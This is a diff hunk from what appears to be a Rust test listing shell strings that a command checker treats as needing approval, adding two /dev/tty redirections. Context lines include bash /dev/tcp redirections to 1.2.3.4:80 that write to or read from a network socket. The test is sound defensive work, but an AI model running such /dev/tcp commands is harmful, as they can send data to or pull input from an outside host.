@@ -318,6 +318,8 @@ fn what_hides_a_command_asks() {
         "echo > out/x",
         "echo hi > /dev/tcp/1.2.3.4/80",
         "cat < /dev/tcp/1.2.3.4/80",
+        "cat < /dev/tty",
+        "echo x > /dev/tty",
         "ls 'unclosed",
         "ls $(",
         "ls ((",
